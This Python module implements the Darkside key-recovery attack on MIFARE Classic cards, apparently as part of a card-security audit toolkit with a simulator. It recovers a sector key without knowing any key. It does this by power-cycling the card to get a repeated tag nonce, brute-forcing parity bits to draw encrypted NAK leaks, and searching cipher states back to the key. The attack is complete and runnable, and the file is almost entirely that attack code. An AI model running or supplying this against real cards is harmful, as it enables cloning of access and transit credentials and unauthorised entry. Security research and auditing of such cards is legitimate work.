"""Darkside (Courtois 2009, "The dark side of security by obscurity"): a sector key of a genuine-era MIFARE
Classic card, knowing no key at all.

A genuine chip answers a wrong reader answer {nR}{aR} whose 8 encrypted parity bits all check with a 4-bit NAK
encrypted by the next 4 keystream bits; the reader sends the 8 bytes blind (it has no key), so one in 256
parity combinations gets that NAK. With the tag nonce held fixed (its PRNG restarts at power-up, so cycling
the field brings the same nT back) and the first 29 bits of {nR} held fixed, the attack collects such a leak
for each of the 8 values of {nR}'s last 3 bits: 8 x (4 NAK keystream bits + 8 parity bits). All 8 runs share
the cipher state after those 29 bits; the C search (``audit._crypto1.darkside_keys``, the common-prefix state
search of crapto1's ``lfsr_common_prefix``, done our way: see audit/_crypto1.c) finds the states that explain
every leak and rolls them back to the key, which the card then confirms. docs/research/darkside.md has the
details and the sources.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable

from audit._crypto1 import darkside_keys
from audit.m1_attacks import AttackFailed, PrngClass, classify_prng, collect_nonces, try_key
from cardsim.mifare import Frame
from terminals.m1 import FrameSlot, M1Chip, with_crc

VARIANTS = 8  # values of {nR}'s last 3 bits
FIELD_CYCLES_PER_NONCE = 64  # a genuine chip gives the wanted nT again after ~4 (its timing jitter is 0..3 steps)
ROUNDS = 3  # {nR} prefixes tried before giving up (each round's search is exhaustive: a miss means bad data)
_COMMON_PARITY = 0b111  # the parity bits of {nR}'s first 3 bytes: the same for every variant
# The plaintext of the leaked NAK: a genuine chip answers 0x5 (transmission error; Garcia et al. 2009, section 3.1,
# and Proxmark3's darkside), as the card model (cardsim/mifare.py NAK_TRANSMISSION) does; some chips are reported
# to answer 0x4. Both are tried, 0x5 first: the wrong one explains none of the leaks.
NAK_CODES = (0x5, 0x4)


class _Collector:
    """The leaks of one round: a fixed nT, a fixed {nR} prefix and {aR}, sent to the card until it NAKs."""

    def __init__(
        self, chip: M1Chip, target: tuple[int, int], deadline: float | None, progress: Callable[[str], None]
    ) -> None:
        self.chip = chip
        self.command = with_crc(chip, bytes([target[1], target[0]]))
        self.deadline = deadline
        self.progress = progress
        self.sent = 0
        self.cycles = 0
        self.leaks: list[tuple[int, int]] = []  # (encrypted NAK, parity byte) by variant
        self.nt = self._request()

    def _request(self) -> int:
        """A fresh field and the target's authentication request: the card's plain nT."""
        self.chip.power_on()
        self.cycles += 1
        answer = self.chip.transceive(Frame(self.command))
        if answer is None or len(answer.data) != 4:
            raise AttackFailed("the card does not answer the authentication request of the target sector")
        return int.from_bytes(answer.data)

    def _check_time(self, what: str) -> None:
        if self.deadline is not None and time.monotonic() >= self.deadline:
            raise AttackFailed(
                f"out of time while {what}: {len(self.leaks)} of {VARIANTS} leaks collected for nT {self.nt:08X} "
                f"({self.sent} reader answers, {self.cycles} field cycles)"
            )

    def answer(self, data: bytes, parity: int) -> int | None:
        """Send ``data`` ({nR}{aR}, no CRC on air) with these 8 parity bits (bit j: byte j) once the card has
        given the fixed nT; the encrypted 4-bit NAK, or None when the card stays silent."""
        for _ in range(FIELD_CYCLES_PER_NONCE):
            if self._request() == self.nt:
                break
            self._check_time("waiting for the same tag nonce")
        else:
            raise AttackFailed(
                f"the tag nonce {self.nt:08X} did not come back in {FIELD_CYCLES_PER_NONCE} field cycles: "
                "the card's PRNG does not restart at power-up"
            )
        self.sent += 1
        reply = self.chip.transceive(Frame(data, tuple((parity >> j) & 1 for j in range(8))))
        if reply is None or reply.bits != 4:
            return None
        return reply.data[0] & 0xF

    def collect(self, nr: int, ar: int) -> None:
        """A leak for each variant: all 256 parity combinations for the first (exactly one gets the NAK), then
        the 32 of the last 5 bytes only (the first 3 bytes' parity is common to every variant)."""
        common: int | None = None
        for c in range(VARIANTS):
            data = (nr | c << 5).to_bytes(4) + ar.to_bytes(4)
            choices: Iterable[int] = range(256) if common is None else [common | high << 3 for high in range(32)]
            for parity in choices:
                self._check_time(f"collecting leak {c + 1}")
                nak = self.answer(data, parity)
                if nak is not None:
                    self.leaks.append((nak, parity))
                    common = parity & _COMMON_PARITY
                    break
            else:
                if common is None:
                    raise AttackFailed(
                        f"no NAK for any of the 256 parity combinations of a wrong reader answer (nT {self.nt:08X}): "
                        "the card does not leak (a hardened or FM11RF08S-like chip); darkside cannot run"
                    )
                raise AttackFailed(f"no NAK for leak {c + 1} though the first came: the card's answers are not stable")
            self.progress(
                f"darkside: leak {c + 1}/{VARIANTS} for nT {self.nt:08X} "
                f"({self.sent} reader answers, {self.cycles} field cycles)"
            )


def darkside_attack(
    chip: M1Chip,
    target: tuple[int, int],
    *,
    max_seconds: float | None = None,
    progress: Callable[[str], None] = lambda _: None,
) -> int:
    """The key of ``target`` = (block, 0x60 key A | 0x61 key B), knowing no key: collect the NAK leaks (a few
    hundred reader answers, each after a field cycle that brings the same nT back), search the states that
    explain them, and return the candidate key the card accepts.

    Raises ``AttackFailed`` saying why: the card's PRNG is not weak, it never leaks (hardened, FM11RF08S), the
    budget ran out (with how far it got), or no candidate authenticated. Bad ``target`` is a ``ValueError``.
    """
    block, key_type = target
    if not 0 <= block < 64 or key_type not in (0x60, 0x61):
        raise ValueError(f"darkside target must be (block 0..63, 0x60 or 0x61), not ({block}, {key_type:#x})")
    deadline = None if max_seconds is None else time.monotonic() + max_seconds
    prng = classify_prng(collect_nonces(chip, 4, block))
    if prng is PrngClass.HARDENED:
        raise AttackFailed("darkside needs a tag nonce that repeats; this card's nonces are random (hardened PRNG)")
    uid = int.from_bytes(chip.anticollision()[0])
    for round_ in range(ROUNDS):
        # a different {nR} prefix (its last 3 bits are the variant) and {aR} each round
        nr, ar = (round_ * 0x9E3779B9) & 0xFFFFFF1F, (round_ * 0x7F4A7C15) & 0xFFFFFFFF
        collector = _Collector(chip, target, deadline, progress)
        name = f"sector {block // 4} key {'AB'[key_type - 0x60]}"
        progress(f"darkside: {name}, nT {collector.nt:08X}, round {round_ + 1}")
        collector.collect(nr, ar)
        naks, parities = zip(*collector.leaks, strict=True)
        progress("darkside: searching the cipher states that explain the leaks")
        for code in NAK_CODES:
            keys = darkside_keys(uid ^ collector.nt, nr, ar, bytes(n ^ code for n in naks), bytes(parities))
            if keys:
                break
        progress(f"darkside: {len(keys)} candidate key(s), checking them against the card")
        for key in keys:
            if try_key(FrameSlot(chip), block, key, key_type):
                progress(f"darkside: key {key:012X} found")
                return key
    raise AttackFailed(f"no candidate key authenticated in {ROUNDS} darkside rounds: the card's answers are not stable")
